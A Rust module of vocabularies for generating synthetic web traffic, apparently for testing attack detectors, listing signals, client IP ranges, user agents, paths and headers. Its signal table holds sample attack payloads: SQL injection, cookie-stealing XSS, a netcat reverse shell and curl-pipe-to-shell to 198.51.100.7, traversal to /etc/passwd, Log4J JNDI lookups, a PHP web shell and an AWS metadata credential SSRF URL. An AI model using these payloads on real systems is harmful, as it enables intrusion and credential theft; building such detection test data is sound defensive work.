//! Vocabularies of the synthetic traffic: signals, clients, paths, headers.

/// A signal the traffic can carry.
#[derive(Debug)]
pub(crate) struct Signal {
    pub(crate) name: &'static str,
    pub(crate) weight: u32,
    pub(crate) detector: &'static str,
    pub(crate) location: &'static str,
    /// Sample matched values (also used to shape the request).
    pub(crate) values: &'static [&'static str],
}

macro_rules! signal {
    ($name:expr, $weight:expr, $detector:expr, $location:expr, [$($value:expr),* $(,)?]) => {
        Signal { name: $name, weight: $weight, detector: $detector, location: $location, values: &[$($value),*] }
    };
}

/// Indexes into this table are stable: feed filters and cursors rely on them only via names.
pub(crate) static SIGNALS: [Signal; 22] = [
    signal!(
        "SQLI",
        14,
        "SQLiDetector",
        "QUERYSTRING",
        [
            "1' OR '1'='1",
            "1 UNION SELECT username,password FROM users--",
            "' AND SLEEP(5)--",
            "1);DROP TABLE orders;--",
            "admin'--"
        ]
    ),
    signal!(
        "XSS",
        12,
        "XSSDetector",
        "QUERYSTRING",
        [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "<svg/onload=confirm(1)>"
        ]
    ),
    signal!(
        "CMDEXE",
        5,
        "CmdExeDetector",
        "POSTBODY",
        [
            "; cat /etc/passwd",
            "| nc 198.51.100.7 4444 -e /bin/sh",
            "$(curl http://198.51.100.7/x.sh|sh)",
            "`id`"
        ]
    ),
    signal!(
        "TRAVERSAL",
        8,
        "TraversalDetector",
        "PATH",
        [
            "../../../../etc/passwd",
            "..%2f..%2f..%2fwindows/win.ini",
            "/..;/..;/WEB-INF/web.xml"
        ]
    ),
    signal!(
        "BACKDOOR",
        4,
        "BackdoorDetector",
        "PATH",
        ["/shell.php", "/wso.php", "/c99.php", "/.well-known/cmd.php"]
    ),
    signal!(
        "USERAGENT",
        10,
        "UserAgentDetector",
        "USERAGENT",
        [
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "masscan/1.3"
        ]
    ),
    signal!("HTTP404", 15, "HTTPErrorDetector", "", ["404"]),
    signal!(
        "HTTP4XX",
        8,
        "HTTPErrorDetector",
        "",
        ["400", "401", "405", "413"]
    ),
    signal!("HTTP403", 5, "HTTPErrorDetector", "", ["403"]),
    signal!("HTTP500", 2, "HTTPErrorDetector", "", ["500"]),
    signal!("NOUA", 4, "NoUserAgentDetector", "USERAGENT", [""]),
    signal!(
        "ABNORMALPATH",
        4,
        "AbnormalPathDetector",
        "PATH",
        ["//admin//config", "/index.php/../../../", "/%2e%2e/%2e%2e/"]
    ),
    signal!(
        "DATACENTER",
        10,
        "DatacenterDetector",
        "",
        [
            "amazonaws.com",
            "googleusercontent.com",
            "digitalocean.com",
            "linode.com"
        ]
    ),
    signal!("TORNODE", 2, "TorNodeDetector", "", ["tor-exit"]),
    signal!("SANS", 4, "SansDetector", "", ["sans-isc"]),
    signal!(
        "BHH",
        2,
        "BadHopHeadersDetector",
        "HEADER",
        ["Connection: close, X-Forwarded-For"]
    ),
    signal!(
        "DOUBLEENCODING",
        2,
        "DoubleEncodingDetector",
        "QUERYSTRING",
        ["%253Cscript%253E", "%252e%252e%252f"]
    ),
    signal!(
        "LOG4J-JNDI",
        2,
        "Log4JDetector",
        "HEADER",
        [
            "${jndi:ldap://198.51.100.7:1389/a}",
            "${${lower:j}ndi:dns://x.example.net/a}"
        ]
    ),
    signal!(
        "CODEINJECTION",
        2,
        "CodeInjectionDetector",
        "POSTBODY",
        [
            "<?php system($_GET['c']); ?>",
            "__import__('os').system('id')"
        ]
    ),
    signal!("BLOCKED", 6, "AgentDecision", "", ["406"]),
    signal!("site.login-attempt", 5, "SiteSignal", "", [""]),
    signal!(
        "AWS-SSRF",
        1,
        "SSRFDetector",
        "QUERYSTRING",
        ["http://169.254.169.254/latest/meta-data/iam/security-credentials/"]
    ),
];

/// Countries (weight) with public first octets used for their client IPs.
pub(crate) static COUNTRIES: [(&str, u32, &[u8]); 16] = [
    (
        "US",
        30,
        &[3, 18, 23, 34, 44, 52, 64, 66, 73, 98, 104, 162, 172, 204],
    ),
    (
        "CN",
        10,
        &[1, 27, 36, 58, 101, 111, 112, 114, 117, 120, 180, 218, 223],
    ),
    ("RU", 7, &[5, 31, 46, 77, 85, 91, 95, 176, 178, 188, 212]),
    ("DE", 7, &[5, 46, 78, 84, 88, 91, 138, 144, 176, 185, 212]),
    ("NL", 5, &[31, 37, 45, 77, 82, 89, 141, 145, 185, 195]),
    ("GB", 5, &[2, 5, 51, 81, 86, 90, 109, 151, 178, 212]),
    ("FR", 4, &[2, 5, 37, 51, 62, 78, 80, 82, 90, 109, 176]),
    (
        "BR",
        4,
        &[138, 143, 152, 177, 179, 186, 187, 189, 191, 200, 201],
    ),
    ("IN", 4, &[1, 14, 27, 42, 49, 103, 106, 117, 122, 157, 182]),
    (
        "JP",
        3,
        &[1, 14, 27, 36, 42, 49, 58, 60, 106, 110, 126, 133],
    ),
    ("KR", 2, &[1, 14, 27, 39, 58, 61, 110, 112, 121, 175, 211]),
    ("CA", 3, &[24, 50, 64, 70, 72, 99, 142, 174, 192, 206]),
    ("SG", 2, &[8, 13, 18, 27, 43, 103, 128, 139, 152, 175]),
    ("UA", 2, &[31, 37, 46, 77, 91, 93, 176, 178, 185, 193]),
    ("VN", 2, &[14, 27, 42, 113, 115, 116, 117, 118, 123, 171]),
    ("ZA", 1, &[41, 102, 105, 154, 155, 196, 197]),
];

pub(crate) static ISP_DOMAINS: [&str; 10] = [
    "res.spectrum.com",
    "comcast.net",
    "dynamic.kabel-deutschland.de",
    "cable.virginm.net",
    "static.vnpt.vn",
    "hinet.net",
    "bb.sky.com",
    "fbx.proxad.net",
    "rev.sfr.net",
    "dsl.telesp.net.br",
];

pub(crate) static DATACENTER_HOSTS: [&str; 4] = [
    "compute-1.amazonaws.com",
    "bc.googleusercontent.com",
    "members.linode.com",
    "vultrusercontent.com",
];

pub(crate) static BROWSER_AGENTS: [(&str, u32); 10] = [
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        30,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
        12,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
        12,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
        10,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
        8,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
        4,
    ),
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        6,
    ),
    (
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        3,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
        5,
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
        3,
    ),
];

pub(crate) static TOOL_AGENTS: [&str; 6] = [
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Wget/1.21.3",
    "okhttp/4.12.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
];

/// Paths; `{n}` becomes a number.
pub(crate) static PATHS: [(&str, u32); 28] = [
    ("/", 10),
    ("/login", 8),
    ("/search", 8),
    ("/api/v1/users/{n}", 6),
    ("/api/v1/orders", 5),
    ("/api/v2/products/{n}", 6),
    ("/products/{n}", 6),
    ("/cart", 4),
    ("/checkout/payment", 3),
    ("/account/settings", 3),
    ("/graphql", 4),
    ("/api/v1/session", 3),
    ("/static/js/app.{n}.js", 3),
    ("/wp-login.php", 4),
    ("/xmlrpc.php", 2),
    ("/.env", 3),
    ("/.git/config", 2),
    ("/admin/index.php", 2),
    ("/phpmyadmin/index.php", 2),
    ("/cgi-bin/luci", 1),
    ("/robots.txt", 2),
    ("/sitemap.xml", 1),
    ("/blog/{n}/comments", 2),
    ("/api/v1/password/reset", 2),
    ("/downloads/report-{n}.pdf", 1),
    ("/vendor/phpunit/src/Util/PHP/eval-stdin.php", 1),
    ("/actuator/health", 1),
    ("/api/v1/auth/token", 2),
];

pub(crate) static SEARCH_WORDS: [&str; 16] = [
    "shoes",
    "laptop",
    "gift card",
    "return policy",
    "login",
    "pricing",
    "docs",
    "coffee",
    "headphones",
    "order status",
    "jacket",
    "discount",
    "warranty",
    "shipping",
    "contact",
    "careers",
];

pub(crate) static UTM_SOURCES: [&str; 6] = [
    "google",
    "newsletter",
    "facebook",
    "twitter",
    "partner",
    "bing",
];

pub(crate) static ACCEPTS: [&str; 4] = [
    "text/html,application/xhtml+xml,*/*;q=0.8",
    "application/json, text/plain, */*",
    "*/*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
];

pub(crate) static LANGUAGES: [&str; 6] = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.8",
    "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
    "zh-CN,zh;q=0.9",
    "pt-BR,pt;q=0.9,en;q=0.8",
    "ja,en-US;q=0.9,en;q=0.8",
];

pub(crate) static TLS_CIPHERS: [(&str, &str, u32); 4] = [
    ("TLSv1.3", "TLS_AES_128_GCM_SHA256", 50),
    ("TLSv1.3", "TLS_AES_256_GCM_SHA384", 20),
    ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256", 20),
    ("TLSv1.2", "ECDHE-ECDSA-CHACHA20-POLY1305", 10),
];

pub(crate) static METHODS: [(&str, u32); 6] = [
    ("GET", 70),
    ("POST", 20),
    ("HEAD", 4),
    ("PUT", 2),
    ("OPTIONS", 2),
    ("DELETE", 2),
];

pub(crate) static OK_CODES: [(u16, u32); 5] = [(200, 70), (301, 5), (302, 7), (304, 6), (204, 3)];

pub(crate) static CACHE_CONTROLS: [&str; 4] = [
    "no-cache, no-store, must-revalidate",
    "private, max-age=0",
    "public, max-age=3600",
    "max-age=31536000, immutable",
];
